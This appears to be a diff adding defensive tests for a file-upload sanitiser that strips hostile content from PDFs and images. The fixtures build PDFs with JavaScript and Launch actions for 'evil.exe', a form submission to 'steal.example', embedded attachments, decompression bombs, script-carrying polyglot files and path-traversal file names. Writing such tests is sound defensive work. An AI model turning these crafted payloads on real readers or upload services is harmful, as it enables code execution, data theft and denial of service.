@@ -3,10 +3,13 @@ import { mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { after, test } from 'node:test'
+import { deflateSync } from 'node:zlib'
+import fc from 'fast-check'
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
 import sharp from 'sharp'
 import { cleanFile, UnreadableFile } from './clean-file.ts'
 import { folderStore } from './file-store.ts'
+import { fileTypeOf } from './file-type.ts'
 import { uploads } from './uploads-field.ts'
 
 const folder = mkdtempSync(path.join(tmpdir(), 'punte-files-'))
@@ -54,6 +57,54 @@ test('a PDF loses its author, its scripts and what opens by itself', async () =>
   assert.equal((await PDFDocument.load(clean.bytes)).getPageCount(), 1)
 })
 
+test('a PDF keeps neither what its pages hide nor where its photographs were taken', async () => {
+  const source = await PDFDocument.create()
+  const photo = await sharp(await picture())
+    .withMetadata()
+    .jpeg()
+    .toBuffer()
+  assert.ok(photo.includes('secret place'))
+  const page = source.addPage()
+  page.drawImage(await source.embedJpg(photo))
+  const { context } = source
+  const script = context.register(context.stream('app.alert(2)'))
+  const attached = context.register(context.stream('attached bytes', { Type: 'EmbeddedFile' }))
+  page.node.set(PDFName.of('Metadata'), context.register(context.stream('<x:xmpmeta>Ion Secret', { Type: 'Metadata' })))
+  const link = (more: Record<string, unknown>) =>
+    context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], ...more } as never)
+  page.node.set(
+    PDFName.of('Annots'),
+    context.obj([
+      link({ A: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } }),
+      link({ A: { S: 'JavaScript', JS: script } }),
+      link({ AA: { PV: { S: 'Launch', F: PDFString.of('evil.exe') } } }),
+      link({ A: context.register(context.obj({ S: 'SubmitForm', F: PDFString.of('https://steal.example') })) }),
+      link({
+        A: {
+          S: 'URI',
+          URI: PDFString.of('https://honest.example'),
+          Next: { S: 'Launch', F: PDFString.of('next.exe') },
+        },
+      }),
+      link({ Subtype: 'FileAttachment', FS: { Type: 'Filespec', F: PDFString.of('a.exe'), EF: { F: attached } } }),
+    ]),
+  )
+  const clean = await cleanFile(Buffer.from(await source.save({ useObjectStreams: false })))
+  for (const trace of [
+    'app.alert',
+    'evil.exe',
+    'steal.example',
+    'next.exe',
+    'attached bytes',
+    'xmpmeta',
+    'secret place',
+    '/JavaScript',
+    '/Launch',
+  ])
+    assert.ok(!clean.bytes.includes(trace), trace)
+  assert.ok(clean.bytes.includes('https://honest.example'))
+})
+
 test('what is damaged, huge in pixels or of another kind is refused', async () => {
   const bomb = Buffer.from(
     await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
@@ -67,6 +118,94 @@ test('what is damaged, huge in pixels or of another kind is refused', async () =
     bomb,
   ])
     await assert.rejects(cleanFile(bytes), UnreadableFile)
+})
+
+test('a PDF that unpacks to sixty megabytes is refused before it does, and the next one is read', async () => {
+  const packed = deflateSync(Buffer.alloc(64_000_000, ' '))
+  const twice = deflateSync(packed)
+  for (const [stream, filter] of [
+    [packed, '/FlateDecode'],
+    [twice, '[/FlateDecode /FlateDecode]'],
+  ] as const) {
+    const bomb = Buffer.concat([
+      Buffer.from(
+        `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 0 /First 0 /Filter ${filter} /Length ${stream.length} >>\nstream\n`,
+      ),
+      stream,
+      Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n'),
+    ])
+    await assert.rejects(cleanFile(bomb), (error: UnreadableFile) => /unpacks to too much/.test(String(error.cause)))
+  }
+  const source = await PDFDocument.create()
+  source.addPage()
+  assert.ok((await cleanFile(Buffer.from(await source.save()))).bytes.length > 100)
+})
+
+test('a file that is two kinds at once comes out as one', async () => {
+  const html = '<script>alert(1)</script>'
+  const page = (await PDFDocument.create()).addPage().doc
+  for (const bytes of [
+    Buffer.concat([await picture(), Buffer.from(html)]),
+    Buffer.concat([await picture(), Buffer.from('PK\x03\x04archive')]),
+    Buffer.concat([Buffer.from(await page.save()), Buffer.from(html)]),
+  ]) {
+    const clean = await cleanFile(bytes)
+    assert.ok(!clean.bytes.includes('script>') && !clean.bytes.includes('archive'))
+  }
+})
+
+test('whatever is done to a file, it is cleaned or refused', async () => {
+  const source = await PDFDocument.create()
+  source.addPage().drawText('Text')
+  const files = [
+    await picture(),
+    await sharp({ create: { width: 9, height: 9, channels: 4, background: '#0000' } })
+      .png()
+      .toBuffer(),
+    await sharp({ create: { width: 9, height: 9, channels: 4, background: '#0000' } })
+      .webp()
+      .toBuffer(),
+    Buffer.from(await source.save({ useObjectStreams: false })),
+    Buffer.from(await source.save()),
+  ]
+  const damage = fc.record({
+    file: fc.nat(files.length - 1),
+    bytes: fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.nat(255)), { maxLength: 6 }),
+    cut: fc.double({ min: 0.1, max: 1, noNaN: true }),
+    added: fc.uint8Array({ maxLength: 40 }),
+  })
+  await fc.assert(
+    fc.asyncProperty(damage, async ({ file, bytes, cut, added }) => {
+      const whole = Buffer.from(files[file] as Buffer)
+      for (const [at, byte] of bytes) whole[Math.floor(at * whole.length)] = byte
+      const sent = Buffer.concat([whole.subarray(0, Math.ceil(cut * whole.length)), added])
+      try {
+        const clean = await cleanFile(sent)
+        assert.equal(fileTypeOf(clean.bytes), clean.type)
+      } catch (error) {
+        assert.ok(error instanceof UnreadableFile, String(error))
+      }
+    }),
+    { numRuns: 150 },
+  )
+})
+
+test('a file name is a name: nothing of a path, nothing hidden, never empty', () => {
+  const field = uploads({ max: 1, maxBytes: 1_000 })
+  const bytes = Buffer.from('%PDF-1.7')
+  const name = fc.oneof(
+    fc.string({ unit: 'binary' }),
+    fc.string({ unit: fc.constantFrom('..', '/', '\\', '\0', '\r\n', '\u202e', 'a', '.', '"', ' ') }),
+  )
+  fc.assert(
+    fc.property(name, (fileName) => {
+      const read = field.read({ fileName, bytes })
+      assert.ok('value' in read)
+      const kept = read.value[0]?.name ?? ''
+      assert.ok(kept.length > 0 && kept.length <= 120)
+      assert.doesNotMatch(kept, /[\p{C}/\\<>:"|?*]|^\./u)
+    }),
+  )
 })
 
 test('an upload is what its content says, whatever its name', async () => {
